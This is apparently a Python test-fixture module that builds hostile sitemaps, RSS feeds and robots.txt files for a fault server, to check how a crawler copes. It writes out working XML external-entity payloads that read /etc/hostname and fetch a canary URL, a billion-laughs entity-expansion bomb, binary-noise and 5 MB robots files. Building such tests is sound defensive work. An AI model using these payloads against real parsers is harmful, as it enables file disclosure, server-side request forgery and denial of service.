"""Hostile sitemaps, feeds and robots.txt files for the fault server."""

from __future__ import annotations

# A file nobody may read, and a URL nobody may fetch: either showing up anywhere (a stored
# URL, a request in the server's log) means an external entity was resolved.
SECRET_FILE = "/etc/hostname"
CANARY_PATH = "/xxe-canary"


def _laughs(root: str) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(levels)}]>'


def _xxe(root: str, base: str) -> str:
    return (f'<?xml version="1.0"?><!DOCTYPE {root} ['
            f'<!ENTITY file SYSTEM "file://{SECRET_FILE}">'
            f'<!ENTITY net SYSTEM "{base}{CANARY_PATH}">]>')


def sitemap_xxe(base: str) -> str:
    return (_xxe("urlset", base) + '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<url><loc>{base}/article/plain?f=&file;</loc></url>"
            f"<url><loc>{base}/article/plain?n=&net;</loc></url></urlset>")


def sitemap_plain(base: str) -> str:
    """A well-formed sitemap of one good article, to mix with the hostile ones in a crawl."""
    return ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<url><loc>{base}/article/plain</loc></url></urlset>")


def sitemap_laughs(base: str) -> str:
    return (_laughs("urlset") + '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<url><loc>{base}/article/plain?l=&lol9;</loc></url></urlset>")


def feed_xxe(base: str) -> str:
    return (_xxe("rss", base) + '<rss version="2.0"><channel><title>&file;</title>'
            f"<item><title>&net;</title><link>{base}/article/plain?f=&file;</link></item>"
            "</channel></rss>")


def feed_laughs(base: str) -> str:
    return (_laughs("rss") + '<rss version="2.0"><channel><title>Laughs</title>'
            f"<item><title>&lol9;</title><link>{base}/article/plain</link></item>"
            "</channel></rss>")


def robots_garbage() -> bytes:
    """Binary noise with a few directive-like fragments (a misconfigured server)."""
    noise = bytes((i * 73 + 41) % 256 for i in range(4096))
    return noise[:1000] + b"\nUser-agent *\nDisalow /\n\x00\xff" + noise[1000:]


def robots_huge(size: int = 5 * 2**20) -> bytes:
    """5 MB of rules; the last line, past any sane parser limit, forbids everything."""
    line = b"Disallow: /not-a-real-section-of-the-site/\n"
    return b"User-agent: *\n" + line * (size // len(line)) + b"Disallow: /\n"
